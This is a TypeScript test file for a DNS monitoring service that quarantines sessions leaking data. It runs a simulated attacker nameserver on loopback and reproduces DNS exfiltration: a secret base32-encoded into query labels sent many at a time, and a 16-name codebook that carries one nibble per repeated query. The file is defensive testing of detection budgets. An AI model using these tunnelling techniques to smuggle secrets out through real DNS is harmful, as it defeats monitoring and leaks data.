// The attack lab at CI scale (issue 14): an attacker's authoritative nameserver of our own (node dgram on
// loopback, the server's only upstream) records every label that reaches it and decodes the secret from them, so
// "bytes out" is counted at the attacker. The attacker here is not polite: its nameserver never answers (the
// labels are all it wants), or answers late while the client keeps many queries in flight. Both got the whole
// 4 KiB secret out before information was counted at send time (bench/lab.mjs LAB_ATTACKER=silent
// LAB_PARALLEL=50: 4096 of 4096 bytes, never quarantined), since a query was accounted only when an answer came.
import dgram from 'node:dgram';
import { afterEach, describe, expect, it } from 'vitest';
import { base32, prng } from '../../fixtures/corpora/generate.mjs';
import { query } from '../helpers/dns-client.js';
import { startWarden, type Warden } from '../helpers/warden.js';

type Behaviour = 'silent' | 'late' | 'prompt';

interface Attacker {
  readonly port: number;
  /** Distinct labels received (the attacker decodes each once). */
  readonly labels: Set<string>;
  /** The first label of every question, in arrival order (a codebook's data is which name came, and when). */
  readonly arrivals: string[];
  received: number;
  close(): Promise<void>;
}

/**
 * The attacker's nameserver: records the first label of every question; never answers, answers after `lateMs`,
 * or answers at once ('prompt'). Its answers are NODATA without an SOA: nothing in them may be cached (TTL 0).
 */
async function startAttacker(behaviour: Behaviour, lateMs = behaviour === 'prompt' ? 0 : 1500): Promise<Attacker> {
  const sock = dgram.createSocket('udp4');
  const timers = new Set<NodeJS.Timeout>();
  const a: Attacker = {
    port: 0,
    labels: new Set(),
    arrivals: [],
    received: 0,
    close: () => {
      for (const t of timers) clearTimeout(t);
      return new Promise((ok) => sock.close(() => ok()));
    },
  };
  sock.on('message', (msg, rinfo) => {
    if (msg.length < 13) return;
    a.received++;
    const label = msg.toString('latin1', 13, 13 + msg[12]!).toLowerCase();
    a.labels.add(label);
    a.arrivals.push(label);
    if (behaviour === 'silent') return;
    // the question back with RA/AA, no answer records: NOERROR/NODATA, late (or at once)
    let end = 12;
    while (end < msg.length && msg[end] !== 0) end += msg[end]! + 1;
    const reply = Buffer.from(msg.subarray(0, end + 5));
    reply.writeUInt16BE(0x8480 | (msg.readUInt16BE(2) & 0x0100), 2);
    reply.writeUInt16BE(1, 4);
    reply.fill(0, 6, 12);
    if (lateMs === 0) {
      sock.send(reply, rinfo.port, rinfo.address);
      return;
    }
    const t = setTimeout(() => {
      timers.delete(t);
      sock.send(reply, rinfo.port, rinfo.address);
    }, lateMs);
    timers.add(t);
  });
  await new Promise<void>((ok) => sock.bind(0, '127.0.0.1', ok));
  return Object.assign(a, { port: sock.address().port });
}

/** Secret bytes the attacker decodes from the base32 labels it received (each label once). */
function decodedBytes(labels: Iterable<string>): number {
  let bytes = 0;
  for (const l of labels) if (/^[a-z2-7]+$/.test(l)) bytes += Math.floor((l.length * 5) / 8);
  return bytes;
}

let warden: Warden | undefined;
let attacker: Attacker | undefined;
afterEach(async () => {
  await warden?.close();
  await attacker?.close();
  warden = attacker = undefined;
});

async function play(opts: { behaviour: Behaviour; type: 'interactive' | 'batch'; domains: number; inFlight: number; timeoutMs: number }) {
  attacker = await startAttacker(opts.behaviour);
  warden = await startWarden({
    sessions: { static: [{ id: 'lab-1', addresses: ['127.0.0.1/32'], type: opts.type, user: 'mallory', role: 'agent' }] },
    upstreams: [{ address: `127.0.0.1:${attacker.port}`, timeout_ms: opts.timeoutMs }],
    // as fast as the client goes: lifted so what is measured is what the budgets let out, not the per-minute cap
    policy: { session_types: { [opts.type]: { bandwidth_bytes_per_min: 1e9 } } },
  });
  const r = prng(4096 + opts.domains);
  const names: string[] = [];
  for (let i = 0; i < 228; i++) names.push(`${base32(r.bytes(18))}.d${i % opts.domains}-exfil.test`); // 4 KiB in 18-byte chunks
  let quarantined = false;
  let sent = 0;
  const started = Date.now();
  for (let i = 0; i < names.length && !quarantined && Date.now() - started < 60_000; i += opts.inFlight) {
    const batch = names.slice(i, i + opts.inFlight);
    const replies = await Promise.all(batch.map((name) => query({ server: warden!.dns, name, type: 'A', timeoutMs: opts.timeoutMs + 4000 })));
    sent += batch.length;
    quarantined = replies.some((rep) => rep.ede?.code === 15 && /session quarantined/.test(rep.ede.text));
  }
  const listed = (await warden.admin('/v1/quarantines')).json as { quarantines: { session: { id: string } }[] };
  return { sent, quarantined, listed: listed.quarantines.map((q) => q.session.id), bytes: decodedBytes(attacker.labels), reached: attacker.received };
}

describe('attack lab: labels are counted when they leave, not when an answer comes', () => {
  for (const type of ['interactive', 'batch'] as const) {
    it(`a nameserver that never answers, 32 queries in flight, 10 domains (${type}): ≤ 512 secret bytes reach it before the quarantine`, async () => {
      const r = await play({ behaviour: 'silent', type, domains: 10, inFlight: 32, timeoutMs: 500 });
      expect(r.quarantined).toBe(true);
      expect(r.listed).toEqual(['lab-1']);
      expect(r.reached).toBeGreaterThan(0); // the harness counts: labels did reach the attacker
      expect(r.bytes).toBeLessThanOrEqual(512);
    }, 90_000);
  }

  it('a nameserver that answers 1.5 s late while 64 queries are in flight, one domain: ≤ 512 bytes before the quarantine', async () => {
    const r = await play({ behaviour: 'late', type: 'interactive', domains: 1, inFlight: 64, timeoutMs: 3000 });
    expect(r.quarantined).toBe(true);
    expect(r.reached).toBeGreaterThan(0);
    expect(r.bytes).toBeLessThanOrEqual(512);
  }, 90_000);
});

// The repeat channel: 16 fixed two-letter names, one per secret nibble, asked again and again while the attacker's
// nameserver answers at once with nothing cacheable. No name is new after the first 16, so no label budget sees
// it; which name arrives is the data. Before the repeat budget: 1,024 queries, all answered, 504 of 512 secret
// bytes decoded at the attacker (bench/lab.mjs LAB_CLASSES=codebook), never quarantined.
const CODEBOOK = ['ab', 'cd', 'ef', 'gh', 'ij', 'kl', 'mn', 'op', 'qr', 'st', 'uv', 'wx', 'yz', 'ba', 'dc', 'fe'];

describe('attack lab: the repeat channel', () => {
  const shapes = [
    // which of 16 names under one domain / which of 16 bare domains is asked: the nibble
    { shape: 'names', type: 'interactive', qname: (n: number) => `${CODEBOOK[n]}.cbook-exfil.test`, label: (n: number) => CODEBOOK[n]! },
    { shape: 'names', type: 'batch', qname: (n: number) => `${CODEBOOK[n]}.cbook-exfil.test`, label: (n: number) => CODEBOOK[n]! },
    { shape: 'bare domains', type: 'interactive', qname: (n: number) => `${CODEBOOK[n]}-cbook.test`, label: (n: number) => `${CODEBOOK[n]}-cbook` },
  ] as const;
  for (const { shape, type, qname, label } of shapes) {
    it(`a codebook of 16 known ${shape}, a nibble a query, nothing cached (${type}): quarantined before 512 secret bytes arrive`, async () => {
      attacker = await startAttacker('prompt');
      warden = await startWarden({
        sessions: { static: [{ id: 'lab-1', addresses: ['127.0.0.1/32'], type, user: 'mallory', role: 'agent' }] },
        upstreams: [{ address: `127.0.0.1:${attacker.port}`, timeout_ms: 1000 }],
        policy: { session_types: { [type]: { bandwidth_bytes_per_min: 1e9 } } },
      });
      const r = prng(512);
      const secret = r.bytes(512);
      let quarantined = false;
      let why = '';
      let answered = 0;
      const started = Date.now();
      for (let i = 0; i < secret.length * 2 && !quarantined && Date.now() - started < 60_000; i++) {
        const nibble = i % 2 === 0 ? secret[i >> 1]! >> 4 : secret[i >> 1]! & 15;
        const rep = await query({ server: warden.dns, name: qname(nibble), type: 'A', timeoutMs: 3000 });
        if (rep.rcode === 'NOERROR') answered++;
        quarantined = rep.ede?.code === 15 && /session quarantined/.test(rep.ede.text);
        if (quarantined) why = rep.ede!.text;
      }
      // the attacker's decode: every arrival past the first sighting of each name is a nibble
      const labels = new Set(CODEBOOK.map((_, n) => label(n)));
      const nibbles = attacker.arrivals.filter((l) => labels.has(l)).length - CODEBOOK.length;
      const bytes = Math.floor(nibbles / 2);
      expect(answered).toBeGreaterThan(100); // the repeats did leave and were answered until the budget ran out
      expect(quarantined).toBe(true);
      expect(why).toMatch(/^session quarantined \(qr-[^)]+\): ~\d+ B in which known names were asked again$/);
      const listed = (await warden.admin('/v1/quarantines')).json as { quarantines: { session: { id: string } }[] };
      expect(listed.quarantines.map((q) => q.session.id)).toEqual(['lab-1']);
      expect(bytes).toBeGreaterThan(256);
      expect(bytes).toBeLessThanOrEqual(512);
    }, 90_000);
  }
});
